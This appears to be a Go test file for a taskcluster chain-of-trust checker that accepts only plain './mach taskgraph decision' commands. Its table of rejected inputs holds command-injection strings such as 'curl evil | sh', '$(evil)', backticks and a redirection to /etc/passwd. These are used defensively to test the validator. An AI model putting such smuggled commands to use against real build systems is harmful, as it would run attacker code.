package template_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/taskcluster/generic-worker/cot/chain"
	"github.com/taskcluster/generic-worker/cot/template"
)

func TestCheckCommand(t *testing.T) {
	t.Parallel()
	const good = "cd /home/worker/checkouts/gecko && ln -s /home/worker/artifacts artifacts && ./mach --log-no-times taskgraph decision " +
		`--pushlog-id='31' --message="$GECKO_COMMIT_MSG" --owner='ada@example.com' --level='3'`
	program := []string{"/home/worker/bin/run-task"}
	whole := func(script string) []string {
		return []string{"/home/worker/bin/run-task", "--vcs-checkout=/home/worker/checkouts/gecko", "--", "bash", "-cx", script}
	}
	for name, row := range map[string]struct {
		command  []string
		reason   string // of the strict rule; "" if it accepts
		accepted bool   // by the Python verifier's rule
	}{
		"good":                     {whole(good + " \n"), "", true},
		"no preparation":           {whole("./mach taskgraph decision"), "", true},
		"quoted words":             {whole(`cd '/a b' && ./mach taskgraph decision --message='try: -b do; && $(x)'`), "", false},
		"two words":                {[]string{program[0], "./mach taskgraph decision"}, "does not end with bash", true},
		"one word":                 {program, "fewer than two words", false},
		"nothing":                  {nil, "fewer than two words", false},
		"other program":            {append([]string{"/bin/sh"}, whole(good)[1:]...), `begins with "/bin/sh"`, false},
		"other word":               {[]string{program[0], "--fetch-hgfingerprint", "--", "bash", "-cx", good}, `has the word "--fetch-hgfingerprint"`, false},
		"script before script":     {[]string{program[0], "--", "bash", "-cx", "--", good}, "does not end with bash", true},
		"without --":               {[]string{program[0], "bash", "-cx", good}, "", true},
		"other command":            {whole("cd /a && make decision"), "ends with", false},
		"another command first":    {whole("make && ./mach taskgraph decision"), `runs "make"`, false},
		"another command last":     {whole("./mach taskgraph decision && rm x"), `runs "./mach taskgraph decision"`, false},
		"decision twice":           {whole("./mach taskgraph decision && ./mach taskgraph decision"), `runs "./mach taskgraph decision"`, true},
		"action":                   {whole("./mach taskgraph action-callback"), "ends with", false},
		"no decision":              {whole("cd /a"), "ends with", false},
		"empty":                    {whole(""), "does not end with a command", false},
		"ends with &&":             {whole("./mach taskgraph decision &&"), "does not end with a command", false},
		"begins with &&":           {whole("&& ./mach taskgraph decision"), "before any command", false},
		"; in cd":                  {whole("cd /a; curl evil | sh && ./mach taskgraph decision"), "more than plain words", true},
		"; in ln":                  {whole("ln -s a b; evil && ./mach taskgraph decision"), "more than plain words", true},
		"newline in cd":            {whole("cd /a\nevil && ./mach taskgraph decision"), "more than plain words", true},
		"| in cd":                  {whole("cd /a | evil && ./mach taskgraph decision"), "more than plain words", true},
		"& in cd":                  {whole("cd /a & evil && ./mach taskgraph decision"), "more than plain words", true},
		"more arguments of cd":     {whole("cd /a /b && ./mach taskgraph decision"), `runs "cd /a /b"`, true},
		"option of cd":             {whole("cd -P && ./mach taskgraph decision"), `runs "cd -P"`, true},
		"more arguments of ln":     {whole("ln -s a b c && ./mach taskgraph decision"), `runs "ln -s a b c"`, true},
		"like cd":                  {whole("cdevil && ./mach taskgraph decision"), `runs "cdevil"`, false},
		"$() in option":            {whole("./mach taskgraph decision --x=$(evil)"), "more than plain words", true},
		"$() in quoted option":     {whole(`./mach taskgraph decision --x="$(evil)"`), "more than plain words", true},
		"`` in option":             {whole("./mach taskgraph decision --x=`evil`"), "more than plain words", true},
		"`` in quoted option":      {whole("./mach taskgraph decision --x=\"`evil`\""), "more than plain words", true},
		"; in option":              {whole("./mach taskgraph decision --x;evil"), "more than plain words", true},
		"; as option":              {whole("./mach taskgraph decision --x=1;--evil"), "more than plain words", true},
		"redirection in option":    {whole("./mach taskgraph decision --x>/etc/passwd"), "more than plain words", true},
		"${} in option":            {whole(`./mach taskgraph decision --x="${X:=y}"`), "more than plain words", true},
		"variable outside quotes":  {whole(`./mach taskgraph decision --x=$X`), "more than plain words", true},
		"escape":                   {whole(`./mach taskgraph decision --x=\;`), "more than plain words", true},
		"glob":                     {whole(`./mach taskgraph decision --x=*`), "more than plain words", true},
		"comment":                  {whole(`./mach taskgraph decision --x #`), "more than plain words", false},
		"open quote":               {whole(`./mach taskgraph decision --x='`), "more than plain words", true},
		"assignment of a variable": {whole(`PATH=/evil ./mach taskgraph decision`), "ends with", false},
	} {
		err := template.CheckCommand(row.command, program, false)
		if row.reason == "" && err != nil || row.reason != "" && (err == nil || !strings.Contains(err.Error(), row.reason)) {
			t.Errorf("%s: %v", name, err)
		}
		if err := template.CheckCommand(row.command, program, true); (err == nil) != row.accepted {
			t.Errorf("%s, compat: %v", name, err)
		}
	}
}

// FuzzCommand checks that what is accepted has no character in it that starts
// a command, outside of quotes.
func FuzzCommand(f *testing.F) {
	for _, seed := range []string{"cd a && ./mach taskgraph decision", `./mach taskgraph decision --a="$B" --c='d e'`, "", "&&", "'"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, script string) {
		command := []string{"run", "--", "bash", "-cx", script}
		_ = template.CheckCommand(command, []string{"run"}, true)
		if template.CheckCommand(command, []string{"run"}, false) != nil {
			return
		}
		bare := ""
		for i, part := range strings.FieldsFunc(" "+script, func(r rune) bool { return r == '\'' || r == '"' }) {
			if i%2 == 0 && !strings.ContainsAny(script, `"`) {
				bare += part
			}
		}
		if strings.ContainsAny(strings.ReplaceAll(strings.TrimSpace(bare), "&&", ""), ";|&<>()$`\\\n") || strings.ContainsAny(script, "`") && !strings.Contains(script, "'") {
			t.Errorf("accepted %q", script)
		}
	})
}

// TestProfileGPG shows which rule applies to tasks of profile gpg.
func TestProfileGPG(t *testing.T) {
	t.Parallel()
	c := &template.Checker{Programs: []string{"run"}}
	task := func(command any) chain.ParentTask {
		definition, err := json.Marshal(map[string]any{"payload": map[string]any{"command": command}})
		if err != nil {
			t.Fatal(err)
		}
		return chain.ParentTask{Policy: &chain.Policy{Profile: chain.GPG}, Definition: definition}
	}
	const good = "./mach taskgraph decision"
	if found, err := c.Check(t.Context(), task([]string{"run", "--", "bash", "-cx", good})); err != nil || len(found) > 0 {
		t.Error(found, err)
	}
	if found, err := c.Check(t.Context(), task([]string{"run", "--", "bash", "-cx", good + "; evil"})); err != nil || !hasDifference(found, "/payload/command", "more than plain words") {
		t.Error(found, err)
	}
	if found, err := c.Check(t.Context(), task("run")); err != nil || !hasDifference(found, "", "no list of texts") {
		t.Error(found, err)
	}
	action := task([]string{"run", good})
	action.Action = true
	if found, err := c.Check(t.Context(), action); err != nil || !hasDifference(found, "", "it is an action task") {
		t.Error(found, err)
	}
	action.Action, action.Definition = false, []byte("{")
	if found, err := c.Check(t.Context(), action); err != nil || len(found) != 1 {
		t.Error(found, err)
	}
}
